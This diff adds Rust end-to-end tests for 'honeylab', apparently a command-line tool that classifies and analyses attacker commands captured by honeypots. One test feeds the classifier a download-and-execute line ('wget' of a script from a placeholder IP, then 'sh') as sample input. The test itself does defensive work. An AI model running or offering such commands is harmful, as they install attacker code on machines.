@@ -1,0 +1,92 @@
+//! End-to-end tests of the `honeylab` CLI binary.
+
+use std::io::Write;
+use std::process::{Command, Stdio};
+
+fn honeylab() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_honeylab"))
+}
+
+#[test]
+fn usage_on_no_args() {
+    let out = honeylab().output().expect("binary runs");
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("usage:"), "{err}");
+}
+
+#[test]
+fn table1_prints_all_rules() {
+    let out = honeylab().arg("table1").output().expect("binary runs");
+    assert!(out.status.success());
+    let text = String::from_utf8_lossy(&out.stdout);
+    for label in ["mdrfckr", "curl_maxred", "gen_curl_echo_ftp_wget", "unknown"] {
+        assert!(text.contains(label), "missing {label}");
+    }
+    // 58 rules + header + fallback line.
+    assert!(text.lines().count() >= 60);
+}
+
+#[test]
+fn classify_reads_stdin() {
+    let mut child = honeylab()
+        .arg("classify")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("binary runs");
+    child
+        .stdin
+        .as_mut()
+        .unwrap()
+        .write_all(b"cd /tmp; wget http://1.2.3.4/x.sh; sh x.sh\nuname -a\nzzz unknown zzz\n")
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success());
+    let text = String::from_utf8_lossy(&out.stdout);
+    let lines: Vec<&str> = text.lines().collect();
+    assert!(lines[0].starts_with("gen_wget"), "{}", lines[0]);
+    assert!(lines[1].starts_with("uname_a"), "{}", lines[1]);
+    assert!(lines[2].starts_with("unknown"), "{}", lines[2]);
+}
+
+#[test]
+fn generate_then_analyze_roundtrip() {
+    let dir = std::env::temp_dir().join("honeylab-cli-test");
+    std::fs::create_dir_all(&dir).unwrap();
+    let log = dir.join("hlab-test.json");
+    let out = honeylab()
+        .args([
+            "generate",
+            "--scale",
+            "60000",
+            "--seed",
+            "5",
+            "--out",
+            log.to_str().unwrap(),
+        ])
+        .output()
+        .expect("binary runs");
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(log.exists());
+
+    let out = honeylab().arg("analyze").arg(&log).output().expect("binary runs");
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("Dataset statistics"));
+    assert!(text.contains("Table 1 coverage"));
+    assert!(text.contains("top command categories"));
+    assert!(text.contains("echo_OK"), "dominant scout should appear:\n{text}");
+    std::fs::remove_file(&log).ok();
+}
+
+#[test]
+fn analyze_rejects_garbage() {
+    let dir = std::env::temp_dir().join("honeylab-cli-test");
+    std::fs::create_dir_all(&dir).unwrap();
+    let bad = dir.join("bad.json");
+    std::fs::write(&bad, "this is not json\n").unwrap();
+    let out = honeylab().arg("analyze").arg(&bad).output().expect("binary runs");
+    assert_eq!(out.status.code(), Some(1));
+    std::fs::remove_file(&bad).ok();
+}
